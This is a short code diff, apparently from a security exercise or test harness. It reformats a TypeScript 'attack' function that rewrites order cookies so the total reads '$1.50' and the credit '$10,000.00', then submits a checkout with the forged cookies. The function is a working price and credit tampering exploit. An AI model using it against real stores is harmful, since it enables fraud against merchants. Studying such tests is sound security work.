@@ -15,7 +15,10 @@ export default async function attack(fetch: typeof globalThis.fetch, baseUrl: st
   const order = await fetch(`${baseUrl}/order`);
   jar.take(order);
   const { total, credit } = (await order.json()) as { total: string; credit: string };
-  const wishes = new Map([[total, '$1.50'], [credit, '$10,000.00']]);
+  const wishes = new Map([
+    [total, '$1.50'],
+    [credit, '$10,000.00'],
+  ]);
   for (const [name, value] of jar) jar.set(name, wishes.get(value) ?? value);
   const response = await fetch(`${baseUrl}/checkout`, { method: 'POST', headers: { cookie: jar.header() } });
   if (!response.ok) return false;
